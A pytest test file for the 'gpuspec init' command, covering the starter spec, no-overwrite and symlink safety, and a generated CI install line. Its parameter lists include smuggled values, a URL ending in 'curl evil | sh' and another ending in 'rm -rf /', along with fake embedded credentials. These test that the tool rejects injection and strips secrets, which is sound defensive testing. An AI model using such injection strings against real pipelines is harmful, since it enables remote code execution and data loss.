"""`gpuspec init`: a starter spec that passes check and is formatted, the pre-commit entry and CI job to copy;
nothing already there is overwritten or followed."""
from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from gpuspec import starter
from gpuspec.cli import EXIT_INVALID, EXIT_OK, main

ROOT = Path(__file__).resolve().parent.parent


def init(capsys, folder: Path) -> tuple[int, str, str]:
    old = os.getcwd()
    os.chdir(folder)
    try:
        code = main(["init"])
    finally:
        os.chdir(old)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_init_writes_a_starter_spec_that_passes_check_and_fmt(tmp_path, capsys):
    code, out, err = init(capsys, tmp_path)
    assert (code, err) == (EXIT_OK, "")
    spec = tmp_path / "specs" / "example.gpu"
    assert spec.read_text(encoding="utf-8") == starter.SPEC
    assert out.startswith("wrote specs/example.gpu;")
    assert sorted(p.name for p in spec.parent.iterdir()) == ["example.gpu"]  # no temporary file left
    assert main(["check", "-v", str(spec)]) == EXIT_OK
    assert "5 passed, 0 failed" in capsys.readouterr().out
    assert main(["fmt", "--check", str(spec)]) == EXIT_OK


def test_init_never_overwrites_a_file_and_says_so(tmp_path, capsys):
    (tmp_path / "specs").mkdir()
    mine = tmp_path / "specs" / "example.gpu"
    mine.write_bytes(b"mine \xff\n")
    code, out, err = init(capsys, tmp_path)
    assert code == EXIT_INVALID and out == ""
    assert "specs/example.gpu already exists; it was left as it is" in err
    assert mine.read_bytes() == b"mine \xff\n"
    assert sorted(p.name for p in mine.parent.iterdir()) == ["example.gpu"]


def test_init_does_not_write_through_a_link_even_a_broken_one(tmp_path, capsys):
    (tmp_path / "specs").mkdir()
    (tmp_path / "specs" / "example.gpu").symlink_to(tmp_path / "elsewhere.gpu")
    code, _, err = init(capsys, tmp_path)
    assert code == EXIT_INVALID and "already exists" in err
    assert not (tmp_path / "elsewhere.gpu").exists()


def test_init_where_specs_is_a_file_is_an_error_not_a_traceback(tmp_path, capsys):
    (tmp_path / "specs").write_text("not a folder\n", encoding="utf-8")
    code, out, err = init(capsys, tmp_path)
    assert code == EXIT_INVALID and out == ""
    assert err.startswith("gpuspec init: cannot make specs:")
    assert (tmp_path / "specs").read_text(encoding="utf-8") == "not a folder\n"


def test_the_printed_snippets_match_the_shipped_hooks_and_the_readme_job():
    # (no YAML parser is a dependency: the hooks file's own lines are compared)
    shipped = (ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8")
    for key in ("id", "entry", "files"):
        values = [line.split(":", 1)[1].strip() for line in shipped.splitlines()
                  if line.lstrip("- ").startswith(key + ":")]
        printed = [line.split(":", 1)[1].strip() for line in starter.PRE_COMMIT.splitlines()
                   if line.lstrip("- ").startswith(key + ":")]
        assert printed == values and len(values) == 2
    job = starter.ci_job(starter.installed())
    assert "    - run: gpuspec check --format github specs/\n" in job
    assert "\t" not in job + starter.PRE_COMMIT  # YAML refuses tabs
    assert starter.PRE_COMMIT in starter.instructions() and job in starter.instructions()
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    readme_job = readme[readme.index("```yaml\ngpuspec:\n"):]
    readme_job = readme_job[:readme_job.index("```\n", 8)]
    (install_line,) = [line for line in readme_job.splitlines() if "pip install" in line]
    assert install_line == "    - run: " + starter._PLACEHOLDER  # never a bare `pip install gpuspec`: no release


VERSION = starter.__version__


@pytest.mark.parametrize(("direct_url", "command"), [
    (None, f"pip install gpuspec=={VERSION}"),  # from a package index: that release
    ({"url": "https://github.com/o/gpuspec.git", "vcs_info": {"vcs": "git", "commit_id": "a" * 40}},
     f'pip install "gpuspec @ git+https://github.com/o/gpuspec.git@{"a" * 40}"'),
    ({"url": "https://user:s3cret@git.example.com/o/gpuspec", "vcs_info": {"vcs": "git", "commit_id": "b" * 40}},
     f'pip install "gpuspec @ git+https://git.example.com/o/gpuspec@{"b" * 40}"'),  # no credentials in a job file
    ({"url": "https://files.example.com/gpuspec-0.1.0-py3-none-any.whl", "archive_info": {}},
     'pip install "gpuspec @ https://files.example.com/gpuspec-0.1.0-py3-none-any.whl"'),
    ({"url": "https://x.example.com/a b\n- run: curl evil | sh", "archive_info": {}}, starter._PLACEHOLDER),
    ({"url": "https://x.example.com/g\"; rm -rf /", "vcs_info": {"vcs": "git"}}, starter._PLACEHOLDER),
])
def test_the_ci_job_installs_gpuspec_from_where_it_came(direct_url, command):
    how = starter.install(direct_url)
    assert how.command == command
    assert (how.note is not None) == (command == starter._PLACEHOLDER)
    assert "s3cret" not in starter.ci_job(how) and "\n- run: curl" not in starter.ci_job(how)


def test_from_a_local_folder_the_job_installs_its_origin_or_says_what_to_fill_in(tmp_path):
    checkout = tmp_path / "gpuspec"
    checkout.mkdir()
    local = {"url": checkout.as_uri(), "dir_info": {"editable": True}}
    assert starter.install(local, here=checkout).command == "pip install ."  # gpuspec's own checkout
    origin = starter.install(local, here=tmp_path, git_origin=lambda folder: ("https://github.com/o/gpuspec",
                                                                              "c" * 40))
    assert origin.command == f'pip install "gpuspec @ git+https://github.com/o/gpuspec@{"c" * 40}"'
    assert "push it first" in origin.note and "c" * 12 in origin.note
    alone = starter.install(local, here=tmp_path, git_origin=lambda folder: None)
    assert alone.command == starter._PLACEHOLDER and str(checkout) in alone.note and "not on PyPI" in alone.note


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
@pytest.mark.parametrize(("remote", "shown"), [
    ("git@github.com:o/gpuspec.git", "ssh://git@github.com/o/gpuspec.git"),
    ("https://me:tok3n@github.com/o/gpuspec", "https://github.com/o/gpuspec"),
    ("https://ghp_tok3n@github.com/o/gpuspec", "https://github.com/o/gpuspec"),
    ("ssh://git:pw@example.com/o/gpuspec", "ssh://git@example.com/o/gpuspec"),
    ("/srv/git/gpuspec", None),  # a path on this machine: a runner cannot reach it
])
def test_a_clones_origin_is_read_as_pip_takes_it(tmp_path, remote, shown):
    def git(*args):
        subprocess.run(["git", "-C", str(tmp_path), *args], check=True, capture_output=True)

    git("init", "-q")
    git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
    git("remote", "add", "origin", remote)
    found = starter.git_origin(tmp_path)
    assert (found[0] if found else None) == shown
    assert starter.git_origin(tmp_path / "missing") is None


def test_init_prints_the_note_under_the_job_when_the_install_needs_a_person(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(starter, "installed", lambda: starter.Install(starter._PLACEHOLDER, "put the address in"))
    code, out, _ = init(capsys, tmp_path)
    assert code == EXIT_OK and f"    - run: {starter._PLACEHOLDER}\n" in out
    assert out.endswith("    - run: gpuspec check --format github specs/\n\nput the address in\n")


def test_the_ci_job_writes_the_job_summary_once():
    # `--format github` appends the Markdown report to GITHUB_STEP_SUMMARY itself: a step of its own that writes
    # the summary too would show the report twice
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    readme_job = readme[readme.index("```yaml\ngpuspec:\n"):]
    readme_job = readme_job[:readme_job.index("```\n", 8)]
    for job in (starter.ci_job(starter.installed()), readme_job):
        runs = [line for line in job.splitlines() if "gpuspec check" in line]
        assert len(runs) == 1 and "--format github" in runs[0], job
        assert "GITHUB_STEP_SUMMARY" not in job
